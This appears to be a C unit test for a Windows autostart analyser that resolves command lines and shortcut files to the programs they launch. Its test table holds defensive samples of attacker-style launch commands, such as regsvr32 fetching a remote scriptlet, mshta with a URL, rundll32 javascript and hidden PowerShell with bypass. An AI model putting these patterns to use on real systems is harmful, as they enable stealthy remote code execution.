/* SPDX-License-Identifier: Apache-2.0 */
/* Commands over a small tree: what each leads to. */
#include "tests/test.h"

#include "base/arith.h"
#include "base/buf.h"
#include "base/file.h"
#include "host/autostarts.h"

#include <errno.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

/* Files of the tree; what they hold does not matter, but in shortcuts. */
static const char *const files[] = {
    "Program.exe",
    "Program Files/Foo Bar/foo.exe",
    "Program Files/Two/a b.exe",
    "Program Files/Two/x.exe",
    "Temp/rundll32.exe",
    "Temp/evil.dll",
    "Temp/my script.vbs",
    "Temp/a.ps1",
    "Temp/run.bat",
    "Temp/page.hta",
    "Temp/x.jar",
    "Temp/bad.exe",
    "Temp/half",
    "Temp/half one.exe",
    "WINNT/explorer.exe",
    "WINNT/SYS32.EXE",
    "WINNT/System32/cmd.exe",
    "WINNT/System32/notepad.exe",
    "WINNT/System32/tool.exe",
    "WINNT/System32/evil.dll",
    "WINNT/System32/drivers/d.sys",
    "WINNT/System32/rundll32.exe",
    "WINNT/System32/x.cpl",
    "WINNT/SysWOW64/tool.exe",
    "WINNT/System32/Wbem/wmi.exe",
    "Users/u/own.exe",
};

typedef struct fixture {
    char root[64];
    kj_tree *tree;
    kj_arena arena;
    kj_profile profile;
    kj_system system;
} fixture;

static void write_file(const fixture *f, const char *path, kj_span content)
{
    char full[256];
    (void)snprintf(full, sizeof full, "%s/%s", f->root, path);
    for (char *slash = strchr(full + 6, '/'); slash; slash = strchr(slash + 1, '/')) {
        *slash = 0;
        assert_true(mkdir(full, 0700) == 0 || errno == EEXIST);
        *slash = '/';
    }
    FILE *file = fopen(full, "wb");
    assert_non_null(file);
    assert_int_equal(fwrite(content.data, 1, content.len, file), content.len);
    assert_int_equal(fclose(file), 0);
}

static void put_utf16(kj_buf *out, const char *text)
{
    for (; *text; text++)
        kj_buf_put_u16le(out, (uint8_t)*text);
}

/* A shortcut with a local path and arguments, or with a relative path. */
static void write_lnk(const fixture *f, const char *path, const char *target, bool relative,
                      const char *arguments)
{
    enum { LINK_INFO = 2, RELATIVE = 8, ARGUMENTS = 32, UNICODE = 128 };
    kj_buf b;
    kj_buf_init(&b, 4096);
    kj_buf_put_u32le(&b, 0x4C);
    kj_buf_put(&b, kj_span_of("\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16));
    kj_buf_put_u32le(&b, UNICODE | ARGUMENTS | (relative ? RELATIVE : LINK_INFO));
    kj_buf_put_zeros(&b, 0x4C - b.len);
    size_t len = strlen(target);
    if (relative) {
        kj_buf_put_u16le(&b, (uint16_t)len);
        put_utf16(&b, target);
    } else {
        kj_buf_put_u32le(&b, (uint32_t)(0x1C + 0x11 + len + 2));
        kj_buf_put_u32le(&b, 0x1C);
        kj_buf_put_u32le(&b, 1);                                 /* volume and local path */
        kj_buf_put_u32le(&b, 0x1C);                              /* volume */
        kj_buf_put_u32le(&b, 0x1C + 0x11);                       /* local path */
        kj_buf_put_u32le(&b, 0);                                 /* network */
        kj_buf_put_u32le(&b, (uint32_t)(0x1C + 0x11 + len + 1)); /* suffix */
        kj_buf_put_u32le(&b, 0x11);
        kj_buf_put_u32le(&b, 3);
        kj_buf_put_u32le(&b, 0);
        kj_buf_put_u32le(&b, 0x10);
        kj_buf_put_byte(&b, 0);
        kj_buf_put(&b, kj_span_of(target, len + 1));
        kj_buf_put_byte(&b, 0);
    }
    kj_buf_put_u16le(&b, (uint16_t)strlen(arguments));
    put_utf16(&b, arguments);
    kj_buf_put_u32le(&b, 0);
    assert_false(b.failed);
    write_file(f, path, kj_buf_span(&b));
    kj_buf_done(&b);
}

static void write_shortcuts(const fixture *f)
{
    uint8_t pif[369] = {0};
    memcpy(pif + 0x24, "C:\\TEMP\\RUN.BAT", 15);
    memcpy(pif + 0xA5, "/quiet  ", 8);
    write_file(f, "Temp/dos.pif", kj_span_of(pif, sizeof pif));
    write_file(f, "Temp/short.pif", kj_span_of(pif, 0xA6));
    write_file(f, "Temp/program.pif", kj_span_str("MZ is a program"));
    write_file(f, "Temp/file.url",
               kj_span_str("[InternetShortcut]\r\nURL=file:///C:/Temp/bad.exe\r\n"));
    write_file(f, "Temp/web.url", kj_span_str("[InternetShortcut]\r\nURL=http://a.test/\r\n"));
    write_file(f, "Temp/broken.lnk", kj_span_str("no shortcut"));
    write_lnk(f, "Temp/plain.lnk", "C:\\Temp\\bad.exe", false, "-a b");
    write_lnk(f, "Temp/host.lnk", "C:\\WINNT\\System32\\cmd.exe", false, "/c C:\\Temp\\run.bat");
    write_lnk(f, "Temp/relative.lnk", "..\\WINNT\\SYS32.EXE", true, "");
    write_lnk(f, "Temp/gone.lnk", "C:\\Temp\\gone.exe", false, "");
    write_lnk(f, "Temp/loop.lnk", "C:\\Temp\\loop.lnk", false, "");
}

static int make(void **state)
{
    fixture *f = calloc(1, sizeof *f);
    assert_non_null(f);
    strcpy(f->root, "/tmp/kujo-command-XXXXXX");
    assert_non_null(mkdtemp(f->root));
    for (size_t i = 0; i < KJ_COUNT(files); i++)
        write_file(f, files[i], kj_span_str("x"));
    write_shortcuts(f);
    kj_error err;
    assert_int_equal(kj_tree_open_directory(f->root, &f->tree, &err), KJ_OK);
    kj_arena_init(&f->arena, 64 << 20);
    f->profile = (kj_profile){.name = kj_span_str("u"), .path = kj_span_str("Users/u")};
    f->profile.hive = f->profile.classes = KJ_REG_NONE;
    f->system = (kj_system){.tree = f->tree, .arena = &f->arena, .windir = kj_span_str("WINNT")};
    f->system.kind = KJ_WINDOWS_NT;
    f->system.product = "Windows";
    f->system.version = "10.0";
    f->system.build = "";
    f->system.is_64bit = true;
    f->system.drive = 'C';
    f->system.profiles = &f->profile;
    f->system.profile_count = 1;
    *state = f;
    return 0;
}

static int remove_entry(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)st, (void)type, (void)ftw;
    return remove(path);
}

static int unmake(void **state)
{
    fixture *f = *state;
    kj_tree_close(f->tree);
    kj_arena_done(&f->arena);
    (void)nftw(f->root, remove_entry, 8, FTW_DEPTH | FTW_PHYS);
    free(f);
    return 0;
}

enum {
    THERE = 0,
    MISSING = KJ_AUTOSTART_MISSING,
    AWAY = KJ_AUTOSTART_ELSEWHERE,
    HIJACK = KJ_AUTOSTART_HIJACK,
    SCRIPT = KJ_AUTOSTART_INLINE,
};

typedef struct expected {
    const char *command;
    uint32_t flags;
    const char *target;    /* shown path; of a SCRIPT the script */
    const char *arguments; /* NULL: not compared */
} expected;

#define FOO "C:\\Program Files\\Foo Bar\\foo.exe"

/* clang-format off */
static const expected table[] = {
    /* quotes, blanks, variables, prefixes */
    {"", 0, "", ""},
    {"   ", 0, "", ""},
    {"\"" FOO "\" /x y", THERE, FOO, "/x y"},
    {"\"" FOO, THERE, FOO, ""},
    {FOO " /x", HIJACK, "C:\\Program.exe", NULL},
    {"C:\\Program Files\\Foo Bar\\gone.exe", HIJACK, "C:\\Program.exe", NULL},
    {"C:\\Program /x C:\\a", THERE, "C:\\Program.exe", "/x C:\\a"},
    {"C:\\Temp\\half one.exe -z", HIJACK, "C:\\Temp\\half", NULL},
    {"c:\\winnt\\SYSTEM32\\Notepad.EXE C:\\Temp\\a.txt", THERE, "C:\\WINNT\\System32\\notepad.exe", "C:\\Temp\\a.txt"},
    {"c:/winnt/system32/notepad", THERE, "C:\\WINNT\\System32\\notepad.exe", ""},
    {"%SystemRoot%\\SYS32.EXE", THERE, "C:\\WINNT\\SYS32.EXE", ""},
    {"\"%UserProfile%\\own.exe\"", THERE, "C:\\Users\\u\\own.exe", ""},
    {"\\SystemRoot\\System32\\drivers\\d.sys", THERE, "C:\\WINNT\\System32\\drivers\\d.sys", ""},
    {"\\??\\C:\\WINNT\\SYS32.EXE -k", THERE, "C:\\WINNT\\SYS32.EXE", "-k"},
    {"\\\\?\\C:\\Temp\\bad.exe", THERE, "C:\\Temp\\bad.exe", ""},
    {"system32\\drivers\\d.sys", THERE, "C:\\WINNT\\System32\\drivers\\d.sys", ""},
    {"@C:\\Temp\\bad.exe", THERE, "C:\\Temp\\bad.exe", ""},
    {"||C:\\Temp\\bad.exe", THERE, "C:\\Temp\\bad.exe", ""},
    {"C:\\Temp\\evil.dll|Entry", THERE, "C:\\Temp\\evil.dll", "|Entry"},
    {"file:///C:/Temp/bad.exe", THERE, "C:\\Temp\\bad.exe", ""},
    {"C:\\Temp\\..\\WINNT\\.\\SYS32.EXE", THERE, "C:\\WINNT\\SYS32.EXE", ""},
    /* a name alone */
    {"sys32", THERE, "C:\\WINNT\\SYS32.EXE", ""},
    {"tool.exe 1", THERE, "C:\\WINNT\\System32\\tool.exe", "1"},
    {"wmi", THERE, "C:\\WINNT\\System32\\Wbem\\wmi.exe", ""},
    {"explorer.exe", THERE, "C:\\WINNT\\explorer.exe", ""},
    /* not there, not here */
    {"nothing.exe /x", MISSING, "nothing.exe", "/x"},
    {"C:\\Temp\\no such file.exe /x", MISSING, "C:\\Temp\\no such file.exe", "/x"},
    {"C:\\Temp\\nothing /x", MISSING, "C:\\Temp\\nothing", "/x"},
    {"D:\\Program Files\\a.exe /x", AWAY, "D:\\Program Files\\a.exe", "/x"},
    {"\\\\server\\share\\a.exe", AWAY, "\\\\server\\share\\a.exe", ""},
    {"C:\\Temp", MISSING, "C:\\Temp", ""},
    {"C:\\Temp\\\x1b[31m.exe", MISSING, "C:\\Temp\\\\x1b[31m.exe", ""},
    /* rundll32 and its like */
    {"rundll32.exe C:\\Temp\\evil.dll,Entry 1", THERE, "C:\\Temp\\evil.dll", "C:\\Temp\\evil.dll,Entry 1"},
    {"rundll32 \"C:\\Temp\\evil.dll\",Entry", THERE, "C:\\Temp\\evil.dll", NULL},
    {"rundll32 \"C:\\Temp\\evil.dll,Entry\"", THERE, "C:\\Temp\\evil.dll", NULL},
    {"rundll32 evil,Entry", THERE, "C:\\WINNT\\System32\\evil.dll", NULL},
    {"rundll32 C:\\Temp\\gone.dll,Entry", MISSING, "C:\\Temp\\gone.dll", NULL},
    {"rundll32", THERE, "C:\\WINNT\\System32\\rundll32.exe", ""},
    {"C:\\Temp\\rundll32.exe C:\\Temp\\evil.dll,Entry", THERE, "C:\\Temp\\rundll32.exe", NULL},
    {"rundll32 shell32.dll,ShellExec_RunDLL C:\\Temp\\bad.exe 1", THERE, "C:\\Temp\\bad.exe", NULL},
    {"rundll32.exe shell32.dll,Control_RunDLL x.cpl,@0", THERE, "C:\\WINNT\\System32\\x.cpl", NULL},
    {"rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";x()", SCRIPT, "javascript:\"\\..\\mshtml,RunHTMLApplication \";x()", NULL},
    {"regsvr32 /s /n C:\\Temp\\evil.dll", THERE, "C:\\Temp\\evil.dll", NULL},
    {"regsvr32 /s /n /u /i:http://a.test/x.sct scrobj.dll", AWAY, "http://a.test/x.sct", NULL},
    /* cmd */
    {"cmd /c C:\\Temp\\run.bat", THERE, "C:\\Temp\\run.bat", "/c C:\\Temp\\run.bat"},
    {"cmd.exe /q /cC:\\Temp\\bad.exe", THERE, "C:\\Temp\\bad.exe", NULL},
    {"cmd /c \"\"C:\\Program Files\\Two\\a b.exe\" \"1\"\"", THERE, "C:\\Program Files\\Two\\a b.exe", NULL},
    {"cmd /c \"C:\\Program Files\\Two\\a b.exe\" 1", THERE, "C:\\Program Files\\Two\\a b.exe", NULL},
    {"cmd /c \"C:\\Temp\\bad.exe 1\"", THERE, "C:\\Temp\\bad.exe", NULL},
    {"cmd /c start \"title\" /min C:\\Temp\\bad.exe", THERE, "C:\\Temp\\bad.exe", NULL},
    {"cmd /c cd \\ & set a=b && C:\\Temp\\bad.exe", THERE, "C:\\Temp\\bad.exe", NULL},
    {"cmd /c call C:\\Temp\\run.bat", THERE, "C:\\Temp\\run.bat", NULL},
    {"cmd /c echo a>b", SCRIPT, "echo a>b", NULL},
    {"cmd", THERE, "C:\\WINNT\\System32\\cmd.exe", ""},
    {"cmd /c rundll32 C:\\Temp\\evil.dll,Entry", THERE, "C:\\Temp\\evil.dll", NULL},
    {"cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c C:\\Temp\\bad.exe", THERE, "C:\\WINNT\\System32\\cmd.exe", NULL},
    /* scripts */
    {"wscript.exe //B //E:vbscript \"C:\\Temp\\my script.vbs\" 1", THERE, "C:\\Temp\\my script.vbs", NULL},
    {"mshta C:\\Temp\\page.hta", THERE, "C:\\Temp\\page.hta", NULL},
    {"mshta http://a.test/x", AWAY, "http://a.test/x", NULL},
    {"mshta \"javascript:x()\"", SCRIPT, "javascript:x()", NULL},
    {"javascript:x()", SCRIPT, "", "javascript:x()"},
    {"powershell -NoP -W Hidden -File C:\\Temp\\a.ps1 x", THERE, "C:\\Temp\\a.ps1", NULL},
    {"powershell.exe -ep bypass \"& 'C:\\Temp\\a.ps1'\"", THERE, "C:\\Temp\\a.ps1", NULL},
    {"powershell -nop -enc ZABpAHIA", SCRIPT, "dir", NULL},
    {"powershell -e ???", SCRIPT, "???", NULL},
    {"powershell -Command Get-Item x", SCRIPT, "Get-Item x", NULL},
    {"javaw -Xmx1g -jar C:\\Temp\\x.jar", THERE, "C:\\Temp\\x.jar", NULL},
    {"explorer.exe C:\\Temp\\bad.exe", THERE, "C:\\Temp\\bad.exe", NULL},
    {"explorer.exe /e,C:\\", THERE, "C:\\WINNT\\explorer.exe", "/e,C:\\"},
    /* shortcuts */
    {"C:\\Temp\\plain.lnk", THERE, "C:\\Temp\\bad.exe", "-a b"},
    {"C:\\Temp\\host.lnk", THERE, "C:\\Temp\\run.bat", "/c C:\\Temp\\run.bat"},
    {"C:\\Temp\\relative.lnk", THERE, "C:\\WINNT\\SYS32.EXE", ""},
    {"C:\\Temp\\gone.lnk", MISSING, "C:\\Temp\\gone.exe", ""},
    {"C:\\Temp\\loop.lnk", THERE, "C:\\Temp\\loop.lnk", ""},
    {"C:\\Temp\\broken.lnk", THERE, "C:\\Temp\\broken.lnk", ""},
    {"C:\\Temp\\dos.pif", THERE, "C:\\Temp\\run.bat", "/quiet"},
    {"C:\\Temp\\short.pif", THERE, "C:\\Temp\\short.pif", ""},
    {"C:\\Temp\\program.pif", THERE, "C:\\Temp\\program.pif", ""},
    {"C:\\Temp\\file.url", THERE, "C:\\Temp\\bad.exe", ""},
    {"C:\\Temp\\web.url", AWAY, "http://a.test/", ""},
};
/* clang-format on */

static bool same(kj_span span, const char *text)
{
    return kj_span_is(span, text);
}

static bool check(const fixture *f, const expected *e, const kj_path_context *context)
{
    kj_command_target target;
    kj_command_resolve(&f->system, kj_span_str(e->command), context, &target);
    kj_span shown = target.script.len ? target.script : target.path;
    bool there = e->flags != MISSING && e->flags != AWAY && e->flags != SCRIPT && *e->target;
    if (target.flags == e->flags && same(shown, e->target) && (target.file.path.len > 0) == there &&
        (!e->arguments || same(target.arguments, e->arguments)))
        return true;
    print_error("%s\n  flags %u, wanted %u\n  '%.*s', wanted '%s'\n  arguments '%.*s'\n",
                e->command, target.flags, e->flags, (int)shown.len, (const char *)shown.data,
                e->target, (int)target.arguments.len, (const char *)target.arguments.data);
    return false;
}

static void commands_lead_to_files(void **state)
{
    size_t wrong = 0;
    kj_path_context context = {.profile = 0};
    for (size_t i = 0; i < KJ_COUNT(table); i++)
        wrong += !check(*state, &table[i], &context);
    assert_int_equal(wrong, 0);
}

static void programs_of_32_bits_see_their_own_directory(void **state)
{
    kj_path_context context = {.profile = KJ_REG_NONE, .view32 = true};
    expected own = {"tool", THERE, "C:\\WINNT\\SysWOW64\\tool.exe", ""};
    expected path = {"C:\\WINNT\\system32\\tool.exe", THERE, own.target, ""};
    expected else_other = {"notepad", THERE, "C:\\WINNT\\System32\\notepad.exe", ""};
    assert_true(check(*state, &own, &context));
    assert_true(check(*state, &path, &context));
    assert_true(check(*state, &else_other, &context));
}

static void a_directory_comes_first(void **state)
{
    kj_path_context context = {.profile = KJ_REG_NONE, .directory = kj_span_str("Temp")};
    expected name = {"evil.dll", THERE, "C:\\Temp\\evil.dll", ""};
    assert_true(check(*state, &name, &context));
}

/* Windows up to 2000 starts C:\explorer.exe instead of the one in its directory. */
static void old_shells_begin_at_the_root(void **state)
{
    fixture *f = *state;
    write_file(f, "explorer.exe", kj_span_str("x"));
    kj_tree_close(f->tree); /* listings are kept */
    assert_int_equal(kj_tree_open_directory(f->root, &f->tree, NULL), KJ_OK);
    f->system.tree = f->tree;
    kj_path_context context = {.profile = KJ_REG_NONE};
    expected modern = {"Explorer.exe", THERE, "C:\\WINNT\\explorer.exe", ""};
    expected old = {"Explorer.exe", THERE, "C:\\explorer.exe", ""};
    assert_true(check(f, &modern, &context));
    f->system.version = "5.0";
    assert_true(check(f, &old, &context));
}

/* Any bytes end in reasonable time, whatever is nested in what. */
static void long_commands_end(void **state)
{
    fixture *f = *state;
    kj_path_context context = {.profile = KJ_REG_NONE};
    static const char *const parts[] = {"a ",     "cmd /c ", "\"",    "C:\\a b\\",
                                        "start ", "&",       "-enc ", ","};
    for (size_t i = 0; i < KJ_COUNT(parts); i++) {
        kj_buf text;
        kj_command_target target;
        kj_buf_init(&text, 1 << 20);
        while (text.len < 300000)
            kj_buf_put_text(&text, parts[i]);
        kj_command_resolve(&f->system, kj_buf_span(&text), &context, &target);
        assert_int_equal(target.file.path.len > 0, i == 1); /* cmd itself */
        kj_buf_done(&text);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(commands_lead_to_files, make, unmake),
        cmocka_unit_test_setup_teardown(programs_of_32_bits_see_their_own_directory, make, unmake),
        cmocka_unit_test_setup_teardown(a_directory_comes_first, make, unmake),
        cmocka_unit_test_setup_teardown(old_shells_begin_at_the_root, make, unmake),
        cmocka_unit_test_setup_teardown(long_commands_end, make, unmake),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
